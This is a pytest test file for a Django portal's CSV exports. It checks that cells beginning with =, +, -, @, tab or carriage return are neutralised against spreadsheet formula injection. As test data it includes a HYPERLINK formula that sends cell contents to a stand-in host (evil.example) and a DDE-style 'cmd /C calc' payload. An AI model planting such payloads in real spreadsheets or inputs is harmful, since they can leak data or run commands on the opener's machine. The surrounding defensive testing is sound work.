"""Exports cannot carry formulas (issue 14, item 4): every CSV the portal
writes goes through portal.exports, which neutralises cells that a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from portal.exports import FORMULA_PREFIXES, csv_writer

ROOT = Path(__file__).resolve().parents[2]
DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _formula_cells(rows):
    return [cell for row in rows for cell in row if cell.startswith(tuple(DANGEROUS))]


def test_rule_covers_each_dangerous_character():
    assert set(FORMULA_PREFIXES) == set(DANGEROUS)


@pytest.mark.parametrize("first", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_cell_starting_with_a_dangerous_character_is_neutralised(first):
    out = io.StringIO(newline="")
    csv_writer(out).writerow([first + PAYLOAD, "plain", 42, -7, None, "a=b"])
    (row,) = _cells(out.getvalue())
    assert row == ["'" + first + PAYLOAD, "plain", "42", "-7", "", "a=b"]


def test_streaming_writer_returns_each_neutralised_line():
    line = csv_writer().writerow(["=1+1", "ok"])
    assert _cells(line) == [["'=1+1", "ok"]]


@pytest.mark.django_db
def test_closing_report_csv_neutralises_every_dangerous_cell(demo, login):
    from findings import services as finding_services
    from findings.models import Finding, FindingCategory

    atlas = demo["atlas"]
    category = FindingCategory.objects.first()
    for first in DANGEROUS:
        finding = finding_services.finding_create(
            review_id=atlas.pk, actor=demo["reviewer_nsa"], title=f"Finding {first!r}", category=category,
            severity="low", description="placeholder", evidence="@SUM(1+1)*cmd|' /C calc'!A0",
        )
        # Stored as typed (the service strips surrounding blanks, an import might not).
        Finding.objects.filter(pk=finding.pk).update(description=first + PAYLOAD)
    client = login(demo["lead_nsa"], accept_terms_for=[atlas])
    response = client.get(reverse("review_report", kwargs={"pk": atlas.pk, "fmt": "csv"}))
    assert response.status_code == 200
    rows = _cells(response.content.decode())
    assert _formula_cells(rows) == []
    descriptions = {cell for row in rows for cell in row if PAYLOAD in cell}
    assert descriptions == {"'" + first + PAYLOAD for first in DANGEROUS}
    assert sum(row.count("'@SUM(1+1)*cmd|' /C calc'!A0") for row in rows) == len(DANGEROUS)


@pytest.mark.django_db
def test_audit_export_neutralises_every_dangerous_cell(demo, login):
    from audit.services import audit_record

    for first in DANGEROUS:
        # A failed sign-in records the login that was typed, whatever it was.
        audit_record(action="auth.login_failed", actor_label=first + PAYLOAD, payload={"login": first + PAYLOAD})
    response = login(demo["admin"]).get(reverse("audit_export"), {"action": "auth.login_failed"})
    assert response.status_code == 200
    rows = _cells(b"".join(response.streaming_content).decode())
    assert rows[0][:3] == ["id", "at_utc", "action"]
    assert _formula_cells(rows) == []
    actors = [row[3] for row in rows[1:]]
    assert sorted(actors) == sorted("'" + first + PAYLOAD for first in DANGEROUS)


def test_no_csv_writer_outside_the_one_helper():
    """Future exports must use portal.exports.csv_writer: a csv.writer or
    DictWriter built anywhere else in the portal's code fails here."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b")
    offenders = []
    for path in ROOT.rglob("*.py"):
        rel = path.relative_to(ROOT)
        if rel.parts[0] in {".venv", "node_modules"} or "tests" in rel.parts or rel == Path("portal/exports.py"):
            continue
        if pattern.search(path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(str(rel))
    assert offenders == []
